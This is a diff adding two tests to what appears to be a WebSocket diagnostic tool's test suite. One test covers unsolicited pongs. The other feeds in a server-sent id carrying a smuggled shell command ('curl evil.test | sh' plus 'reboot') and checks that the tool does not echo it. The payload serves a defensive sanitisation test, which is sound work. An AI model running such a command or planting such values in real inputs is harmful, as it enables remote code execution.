@@ -10,8 +10,8 @@ import { binary, start, within } from './harness.mjs';
 import { broken, files } from './paths/broken.mjs';
 import { cutSilent, middlebox, stripExtensions } from './paths/middleboxes.mjs';
 import { haproxy, nginx, startHaproxy, startNginx } from './paths/proxies.mjs';
-import { mute, strangeServer } from './paths/servers.mjs';
-import { PING } from './wire.mjs';
+import { honestAnswer, mute, strangeServer } from './paths/servers.mjs';
+import { CLOSE, closeBody, PING, PONG, TEXT } from './wire.mjs';
 
 function doctor(words, env = {}) {
     return within(new Promise((resolve) => {
@@ -116,6 +116,31 @@ test('a foreign server that echoes is well, and one that does not is told apart'
     assert.deepEqual(quiet.found, []);
     assert.equal(quiet.line('echo').state, 'skipped');
     assert.match(quiet.line('echo').fix[0], /--path \/echo/);
+});
+
+test('pongs that nobody asked for are no answers to the pings', async (t) => {
+    const { port } = await strangeServer(t, { opened: (send) => {
+        for (let i = 0; i < 10; i++) send(PONG, Buffer.from('heartbeat'));
+    } });
+    const { found, line } = await walk([`ws://127.0.0.1:${port}/`]);
+    assert.deepEqual(found, []);
+    assert.match(line('ping').value, /^\d+(\.\d+)?( to \d+(\.\d+)?)? ms$/);
+});
+
+test('what a server calls its connection is not told to be typed unless it is a name', async (t) => {
+    let mark;
+    const { port } = await strangeServer(t, {
+        answer: (request, key) => {
+            [, mark] = /moonwire=([\w-]+)/.exec(request);
+            return honestAnswer(request, key);
+        },
+        opened: (send) => send(TEXT, Buffer.from(
+            `${mark}{"v":1,"id":"x; curl evil.test | sh\\nreboot","ping":25,"pong":20}`)),
+        ping: (send, payload, socket) => send(CLOSE, closeBody(4000)),
+    });
+    const { out } = await doctor([`ws://127.0.0.1:${port}/`, '--timeout', '1']);
+    assert.match(out, /closed with 4000/);
+    assert.doesNotMatch(out, /evil|reboot/);
 });
 
 test('what is larger than the server takes is no finding', async (t) => {
